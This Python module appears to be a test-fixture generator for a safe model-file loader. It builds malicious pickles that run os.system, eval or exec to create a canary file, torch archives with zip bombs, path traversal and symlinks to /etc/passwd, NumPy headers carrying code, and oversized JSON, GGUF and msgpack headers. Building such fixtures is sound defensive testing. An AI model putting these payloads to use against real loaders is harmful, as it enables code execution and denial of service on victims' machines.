"""Files made to run code, or to use up memory and time. What could run would make a file in a folder, the canary."""

from __future__ import annotations

import builtins
import io
import os
import pickle
import runpy
import stat
import struct
import subprocess
import zipfile
from functools import cache
from typing import TYPE_CHECKING, Any

import msgpack
import numpy as np

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

_MAGIC = 0x1950A86A20F9469CFC6C


class Call:
    """Is unpickled by a call."""

    def __init__(self, function: Callable[..., Any], *arguments: object, state: object = None) -> None:
        self._made_by = (function, arguments) if state is None else (function, arguments, state)

    def __reduce__(self) -> tuple[Any, ...]:
        return self._made_by

    def __call__(self) -> None:
        """Pickle only takes what looks as if it could be called."""


def _text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _code(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def firing_pickles(folder: Path) -> dict[str, bytes]:
    """Pickles that do make their file when Python loads them, by the name of the file in the folder."""

    def shell(name: str) -> str:
        return f"touch {folder / name}"

    found = {
        f"system-{number}": pickle.dumps(Call(os.system, shell(f"system-{number}")), number) for number in range(6)
    }
    made: dict[str, Any] = {
        "popen": Call(subprocess.check_call, ["touch", str(folder / "popen")]),
        "eval": Call(builtins.eval, _code(folder / "eval")),
        "exec": Call(builtins.exec, _code(folder / "exec")),
        "open": Call(builtins.open, str(folder / "open"), "w"),
        "compile": Call(builtins.eval, Call(compile, _code(folder / "compile"), "model", "eval")),
        "getattr": Call(Call(getattr, Call(__import__, "os"), "system"), shell("getattr")),
        "runpy": Call(runpy._run_code, _code(folder / "runpy"), {}),  # type: ignore[attr-defined]
        "chain": Call(list, Call(map, builtins.eval, [_code(folder / "chain")])),
        "nested": {"a": [{"b": (Call(os.system, shell("nested")),)}]},
        "key": {Call(builtins.eval, f"{_code(folder / 'key')} or 'key'"): 1},
        "state": Call(Call, str, state=Call(os.system, shell("state"))),
    }
    found |= {name: pickle.dumps(value, 2) for name, value in made.items()}
    found |= {
        "inst": b"(" + _text(shell("inst")) + b"ios\nsystem\n.",
        "obj": b"(cos\nsystem\n" + _text(shell("obj")) + b"o.",
        "written": b"(S'" + shell("written").encode() + b"'\nios\nsystem\n.",
        "stack-global": b"\x80\x04"
        + _text("os")
        + _text("system")
        + b"\x93"
        + _text(shell("stack-global"))
        + b"\x85R.",
        "memoized": b"\x80\x02cos\nsystem\nq\x00" + _text(shell("memoized")) + b"\x85q\x010h\x00h\x01R.",
    }
    # A name that is computed: "".join(["sys", "tem"]).
    name = (
        b"cbuiltins\ngetattr\n" + _text("") + _text("join") + b"\x86R]" + _text("sys") + b"a" + _text("tem") + b"a\x85R"
    )
    found["computed"] = b"\x80\x04" + _text("os") + name + b"\x93" + _text(shell("computed")) + b"\x85R."
    return found


def quiet_pickles(folder: Path) -> dict[str, bytes]:
    """Pickles that Python alone does not load, or that only waste its time."""
    shell = _text(f"touch {folder / 'quiet'}")
    system = b"cos\nsystem\n" + shell + b"\x85R"
    laughs = b"\x80\x02]q\x00" + b"".join(
        b"](" + 10 * (b"h" + bytes([level])) + b"eq" + bytes([level + 1]) for level in range(60)
    )
    tuples = b"\x80\x02)q\x00" + b"".join(
        b"h" + bytes([n]) + b"h" + bytes([n]) + b"\x86q" + bytes([n + 1]) for n in range(200)
    )
    storage = b"(" + _text("storage") + b"ctorch\nFloatStorage\n" + _text("0") + _text("cpu") + b"K\x04t"
    return {
        "torch-hub": b"\x80\x02ctorch.hub\nload\n" + _text("evil/repo") + _text("model") + b"\x86R.",
        "torch-load": b"\x80\x02ctorch\nload\n" + _text(str(folder / "quiet")) + b"\x85R.",
        "torch-exec": b"\x80\x02ctorch.jit.unsupported_tensor_ops\nexecWrapper\n" + shell + b"}}\x87R.",
        "f2py": b"\x80\x02cnumpy.f2py.crackfortran\nmyeval\n" + shell + b"\x85R.",
        "runstring": b"\x80\x02cnumpy.testing._private.utils\nrunstring\n" + shell + b"}\x86R.",
        "persistent": b"\x80\x02" + system + b"Q.",
        "persistent-nested": b"\x80\x02" + storage + 50 * b"Q\x85" + b"Q.",
        "persistent-storage": b"\x80\x02" + storage.replace(_text("cpu"), system) + b"Q.",
        "persistent-written": b"Pevil\n.",
        "billion-laughs": laughs + b".",
        "billion-tuples": tuples + b".",
        "billion-keys": b"\x80\x02}" + tuples[2:] + b"K\x01s.",
        "build-global": b"\x80\x02cos\nsystem\n}" + _text("__call__") + system + b"sb.",
        "build-state": b"\x80\x02ccollections\nOrderedDict\n)R}("
        + _text("__class__")
        + system
        + _text("__reduce_ex__")
        + b"Nub.",
        "build-setstate": b"\x80\x02cfunctools\npartial\ncos\nsystem\n\x85R(cos\nsystem\n" + shell + b"\x85}Ntb.",
        "newobj": b"\x80\x02cos\nsystem\n" + shell + b"\x85\x81.",
        "newobj-ex": b"\x80\x04cos\nsystem\n" + shell + b"\x85}\x92.",
        **{
            f"extension-{size}": b"\x80\x02" + code + b"."
            for size, code in enumerate((b"\x82\x01", b"\x83\1\0", b"\x84\1\0\0\0"))
        },
        "computed-name": b"\x80\x04"
        + _text("os")
        + b"cbuiltins\nstr\n"
        + _text("system")
        + b"\x85R\x93"
        + shell
        + b"\x85R.",
        "recursive-list": b"\x80\x02]q\x00h\x00ah\x00a.",
        "recursive-dict": b"\x80\x02}q\x00" + _text("self") + b"h\x00sh\x00h\x00s.",
        "recursive-call": b"\x80\x02cos\nsystem\n]q\x00h\x00a\x85Rq\x01h\x00h\x01a.",
        "recursive-memo": b"\x80\x02" + b"".join(b"h\x00" if n else b"]q\x00" for n in range(1000)) + b".",
        "deep": b"\x80\x02" + 20_000 * b"]" + 19_999 * b"a" + b".",
        "deep-tuples": b"\x80\x02)" + 20_000 * b"\x85" + b".",
        "deep-calls": b"\x80\x02" + 20_000 * b"cos\nsystem\n" + b")" + 20_000 * b"R\x85" + b".",
        "long-string": b"\x80\x04\x8d" + (2**62).to_bytes(8, "little") + b".",
        "long-number": b"\x80\x02\x8b" + (2**31 - 1).to_bytes(4, "little") + b"\1.",
        "large-index": b"\x80\x02]r\xff\xff\xff\xff.",
        "many-digits": b"I" + 4000 * b"9" + b"\n.",
        "buffers": b"\x80\x05\x97\x98.",
        "unknown-opcode": b"\x80\x02\xff.",
        "no-stop": b"\x80\x02" + 1000 * b"]",
    }


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_STORED, **changes: int) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = method
            info.external_attr = changes.get(name.rpartition("/")[2].replace(".", "_"), 0)
            archive.writestr(info, data)
    return file.getvalue()


def _archive(pickled: bytes) -> dict[str, bytes]:
    return {"m/data.pkl": pickled, "m/data/0": bytes(16), "m/version": b"3\n"}


def as_zip(pickled: bytes) -> bytes:
    """The pickle in a torch file."""
    return _zip(_archive(pickled))


def as_legacy(pickled: bytes) -> bytes:
    """The pickle in a torch file of before 1.6."""
    return b"".join(pickle.dumps(part, 2) for part in (_MAGIC, 1001, {"little_endian": True})) + pickled + b"\x80\x02]."


def _replaced(data: bytes, signature: bytes, offset: int, value: bytes) -> bytes:
    at = data.index(signature) + offset
    return data[:at] + value + data[at + len(value) :]


@cache
def zips(pickled: bytes) -> dict[str, bytes]:
    """Torch files whose archive is not what it seems to be, all with the pickle in them."""
    good = as_zip(pickled)
    local, central = b"PK\3\4", b"PK\1\2"
    members = _archive(pickled)
    twice = _zip({**members, "m/data.pkX": b"\x80\x02}."})
    return {
        "bomb": _zip({**members, "m/data/0": bytes(50_000_000)}, zipfile.ZIP_DEFLATED),
        "bomb-pickle": _zip({**members, "m/data.pkl": b"\x80\x02" + 20_000_000 * b"]" + b"."}, zipfile.ZIP_DEFLATED),
        "compressed-bzip2": _zip(members, zipfile.ZIP_BZIP2),
        "encrypted": _replaced(_replaced(good, local, 6, b"\1"), central, 8, b"\1"),
        "encrypted-locally": _replaced(good, local, 6, b"\1"),
        "overlapping": good[: good.rindex(central) + 42] + bytes(4) + good[good.rindex(central) + 46 :],
        "local-size": _replaced(good, local, 18, (99).to_bytes(4, "little") * 2),
        "local-name": _replaced(good, b"m/data.pkl", 0, b"m/evil.pkl"),
        "central-name": good[::-1].replace(b"lkp.atad/m", b"lkp.live/m", 1)[::-1],
        "local-method": _replaced(good, local, 8, b"\x08"),
        "crc-lie": _replaced(good, local, 14, b"abcd"),
        "link": _zip({**members, "m/link": b"/etc/passwd"}, link=(stat.S_IFLNK | 0o777) << 16),
        "link-storage": _zip({**members, "m/data/1": b"/etc/passwd"}, **{"1": (stat.S_IFLNK | 0o777) << 16}),
        "parent": _zip({**members, "../../evil": b"x"}),
        "parent-storage": _zip({**members, "m/data/../../../evil": b"x"}),
        "absolute": _zip({**members, "/etc/evil": b"x"}),
        "duplicate": twice.replace(b"m/data.pkX", b"m/data.pkl"),
        "comment": good[:-2] + len(good).to_bytes(2, "little") + good,
        "before": b"#!/bin/sh\nexit\n" + good,
        "huge-directory": good[:-12] + b"\xff\xff\xff\xff" + good[-8:],
        "endless-directory": good[:-14] + b"\xff\xff\xff\xff" + good[-10:],
    }


def _npy(header: str, data: bytes = bytes(8)) -> bytes:
    text = header.encode() + b"\n"
    return b"\x93NUMPY\2\0" + struct.pack("<I", len(text)) + text + data


def arrays(folder: Path) -> dict[str, bytes]:
    """Files of NumPy."""
    code, canary = _code(folder / "npy"), f"touch {folder / 'npy'}"
    file = io.BytesIO()
    np.save(file, np.array([Call(os.system, canary)], object), allow_pickle=True)
    fields = "'fortran_order': False, 'shape': (1,), }"
    made = {
        "objects": file.getvalue(),
        "call": _npy(code),
        "call-inside": _npy("{'descr': " + code + ", " + fields),
        "import": _npy(f"{{'descr': __import__('os').system({canary!r}), {fields}"),
        "format": _npy(f"{{'descr': f'{{{code}}}', {fields}"),
        "parentheses": _npy(5000 * "("),
        "brackets": _npy("{'descr': '<f8', 'fortran_order': False, 'shape': " + 3000 * "(" + 3000 * ")" + "}"),
        "signs": _npy("{'descr': '<f8', 'fortran_order': False, 'shape': (" + 5000 * "-" + "1,)}"),
        "power": _npy("{'descr': '<f8', 'fortran_order': False, 'shape': (9**9**9,)}"),
        "digits": _npy("{'descr': '<f8', 'fortran_order': False, 'shape': (" + 9000 * "9" + ",)}"),
        "huge": _npy("{'descr': '<f8', 'fortran_order': False, 'shape': (" + "9999999999, " * 60 + ")}"),
        "records": _npy("{'descr': [('a', '|O')], " + fields),
        "object-dtype": _npy("{'descr': '|O', " + fields, pickle.dumps(Call(os.system, canary), 2)),
        "endless": b"\x93NUMPY\2\0\xff\xff\xff\xff" + bytes(100),
    }
    return (
        made
        | {f"{name}-in-npz": _zip({"a.npy": data}) for name, data in made.items()}
        | {
            "pickled-member": _zip({"a.npy": pickle.dumps(Call(os.system, canary), 2)}),
            "npz-bomb": _zip({"a.npy": bytes(50_000_000)}, zipfile.ZIP_DEFLATED),
        }
    )


def others() -> dict[str, bytes]:
    """Files with numbers too large and nesting too deep, of the formats that can run nothing."""
    header = struct.Struct("<4sIQQ")
    key = struct.pack("<Q", 1) + b"k"
    most = 2**64 - 1
    deep_json = 50_000 * b"[" + 50_000 * b"]"
    made = {
        "json-deep": b'{"a":' + deep_json + b"}",
        "json-objects": 50_000 * b'{"a":' + b"1" + 50_000 * b"}",
        "json-metadata": b'{"__metadata__":' + deep_json + b"}",
        "json-digits": b'{"a":' + 100_000 * b"9" + b"}",
        "json-strings": b'{"' + 100_000 * b"\\u0061" + b'":1}',
    }
    made = {name: struct.pack("<Q", len(text)) + text for name, text in made.items()}
    array = struct.pack("<IIQ", 9, 9, 1)
    return made | {
        "json-length": struct.pack("<Q", most) + b"{}",
        "gguf-tensors": header.pack(b"GGUF", 3, most, 0) + bytes(100),
        "gguf-pairs": header.pack(b"GGUF", 3, 0, most) + bytes(100),
        "gguf-name": header.pack(b"GGUF", 3, 1, 0) + struct.pack("<Q", most) + bytes(100),
        "gguf-string": header.pack(b"GGUF", 3, 0, 1) + key + struct.pack("<IQ", 8, most) + bytes(100),
        "gguf-array": header.pack(b"GGUF", 3, 0, 1) + key + struct.pack("<IIQ", 9, 8, most) + bytes(100),
        "gguf-empty-array": header.pack(b"GGUF", 3, 0, 1) + key + struct.pack("<IIQ", 9, 0, most) + bytes(100),
        "gguf-nested": header.pack(b"GGUF", 3, 0, 1) + key + 10_000 * array + bytes(100),
        "gguf-shape": header.pack(b"GGUF", 3, 1, 0) + key + struct.pack("<I4QIQ", 4, *4 * [most], 0, 0) + bytes(100),
        "gguf-rank": header.pack(b"GGUF", 3, 1, 0) + key + struct.pack("<I", 2**32 - 1) + bytes(100),
        "flax-map": b"\xdf\xff\xff\xff\xff" + bytes(100),
        "flax-list": b"\xdd\xff\xff\xff\xff" + 100 * b"\xc0",
        "flax-bytes": b"\x81\xa1a\xc6\xff\xff\xff\xff" + bytes(100),
        "flax-array": b"\x81\xa1a\xc9\xff\xff\xff\xff\x01" + bytes(100),
        "flax-deep": 100_000 * b"\x91" + b"\xc0",
        "flax-deep-maps": 100_000 * b"\x81\xa1a" + b"\xc0",
        "flax-shape": b"\x81\xa1a"
        + bytes(msgpack.packb(msgpack.ExtType(1, msgpack.packb(([2**63] * 60, "float32", b"1234"))))),
        "flax-pickle": b"\x81\xa1a"
        + bytes(msgpack.packb(msgpack.ExtType(1, pickle.dumps(Call(os.system, "true"), 2)))),
    }


def every(folder: Path) -> dict[str, bytes]:
    """All hostile files, by what is wrong with them."""
    pickles = {**firing_pickles(folder), **quiet_pickles(folder)}
    evil = pickles["system-2"]
    made = {f"{name}.zip": as_zip(data) for name, data in pickles.items()}
    made |= {f"{name}.legacy": as_legacy(data) for name, data in pickles.items()}
    made |= {f"{name}.plain": data for name, data in pickles.items()}
    made |= {f"{name}.first": evil + as_legacy(data) for name, data in pickles.items() if name.startswith("system")}
    return {**made, **zips(evil), **arrays(folder), **others()}
